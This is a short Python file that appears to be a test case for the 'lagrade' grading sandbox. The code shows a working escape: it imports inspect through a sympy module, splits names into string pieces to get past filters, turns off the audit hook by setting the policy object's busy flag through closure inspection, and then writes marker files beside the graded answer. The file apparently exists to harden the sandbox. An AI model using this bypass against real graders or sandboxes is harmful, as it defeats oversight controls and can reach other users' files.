"""effect: write-outside
tries: switch the hook off (route 2, busy) and write a file next to the answer file being graded, found through the sandbox frame's code_path.

An answer that leaves files next to itself (in a class folder: in another student's reach).
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.assumptions.assume import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    path = inspect.getclosurevars(members(parser)["parse_expr"]).nonlocals.get("code_path", "answer.py") if parser else "answer.py"
    B["op" + "en"](os_.path.join(os_.path.dirname(path), "pwned-write_next_to_answer"), "w").write("next to the answer")
    B["op" + "en"]("pwned-write_next_to_answer-cwd", "w").write("in the working folder")


# route 2: lagrade replaces sympy's parse_expr by a closure over the hook's policy object;
# inspect.getclosurevars reads __closure__ (not audited) and hands the policy over. busy = True
# makes the hook return at once for every event, for the rest of the run.
parser = members(sys_)["modules"].get("sympy.pars" + "ing.sympy_parser")
policy = inspect.getclosurevars(members(parser)["parse_expr"]).nonlocals.get("policy") if parser else None
if policy is not None:
    policy.busy = True
work()
